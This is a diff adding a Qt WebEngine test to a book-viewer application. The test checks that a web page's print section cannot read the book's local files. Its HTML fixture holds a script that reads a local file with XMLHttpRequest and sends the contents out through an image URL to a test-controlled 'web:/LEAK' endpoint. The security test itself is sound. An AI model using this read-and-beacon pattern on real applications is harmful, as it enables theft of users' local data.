@@ -10,7 +10,12 @@
 #include <QPushButton>
 #include <QToolButton>
 #include <QTreeWidget>
+#include <QBuffer>
 #include <QWebEngineFindTextResult>
+#include <QWebEngineProfile>
+#include <QWebEngineSettings>
+#include <QWebEngineUrlRequestJob>
+#include <QWebEngineUrlSchemeHandler>
 
 #include "frm_Print.h"
 #include "frm_Search.h"
@@ -166,6 +171,50 @@ TEST_F(ViewerFixture, PrintSectionsAreListedAndPrintedAlone) {
   // A page without sections leaves the button plain.
   EXPECT_TRUE(Loads([&] { Button(1)->click(); }, "Page 2"));
   EXPECT_TRUE(WaitFor([&] { return print->menu() == nullptr; }));
+}
+
+// A web site the main browser can be led to: serves one page and records every request.
+class WebSite : public QWebEngineUrlSchemeHandler {
+public:
+  QByteArray Page;
+  QStringList Asked;
+  void requestStarted(QWebEngineUrlRequestJob* job) override {
+    Asked << job->requestUrl().toString(QUrl::FullyEncoded);
+    auto* body = new QBuffer(job);
+    body->setData(job->requestUrl().path() == QLatin1String("/page.htm") ? Page : QByteArray());
+    body->open(QIODevice::ReadOnly);
+    job->reply(job->requestUrl().path().endsWith(QLatin1String(".htm")) ? "text/html" : "image/png", body);
+  }
+  int Count(const QString& prefix) const {
+    return static_cast<int>(std::count_if(Asked.begin(), Asked.end(), [&](const QString& u) { return u.startsWith(prefix); }));
+  }
+};
+
+// A web page's print section is the web's content: printed, it must not run as the book and
+// read the book's files. The section's script tries, and would send what it read back.
+TEST_F(ViewerFixture, AWebPagesPrintSectionCannotReadTheBook) {
+  WebSite site;
+  site.Page = "<html><body><div id=\"leakPAGE\"><p id=t>web section</p><script>"
+              "try { var x = new XMLHttpRequest(); x.open('GET', 'mfs:/a.htm', false); x.send();"
+              " document.write('<img src=\"web:/LEAK?' + encodeURIComponent(x.responseText) + '\">'); }"
+              " catch (e) { document.write('<img src=\"web:/refused.png\">'); }"
+              "</script><img src=\"web:/probe.png\"></div></body></html>";
+  QWebEngineProfile::defaultProfile()->installUrlSchemeHandler("web", &site);
+  Open({{"\\System.xml", "<System Story=\"s.xml\" ToolButtons=\"tb.xml\"/>"},
+        {"\\tb.xml", "<T><Buttons><b Kind=14 Caption=\"Print\"/></Buttons></T>"},
+        {"\\s.xml", "<S><i page=\"\\a.htm\"/></S>"}},
+       {{"\\a.htm", Page(1, "secret words")}});
+  QToolButton* print = Form->Toolbar().PrintButton();
+  ASSERT_TRUE(Loads([&] { Form->webMain()->Navigate(QUrl("web:/page.htm")); }, "web section"));
+  ASSERT_TRUE(WaitFor([&] { return print->menu() != nullptr && !print->menu()->actions().isEmpty(); }));
+  EXPECT_TRUE(WaitFor([&] { return site.Count("web:/probe.png") == 1; }));  // the web page itself: refused by the book
+  bool shown = WhenShown<TfrmPrint>([&] { print->menu()->actions().at(0)->trigger(); }, [&](TfrmPrint& w) {
+    EXPECT_TRUE(WaitFor([&] { return site.Count("web:/probe.png") == 2; }));  // the section, parsed past its script
+    EXPECT_FALSE(w.webPrint()->settings()->testAttribute(QWebEngineSettings::JavascriptEnabled));
+  });
+  QWebEngineProfile::defaultProfile()->removeUrlSchemeHandler(&site);
+  ASSERT_TRUE(shown);
+  EXPECT_EQ(site.Count("web:/LEAK"), 0) << site.Asked.join(" ").toStdString();
 }
 
 }  // namespace
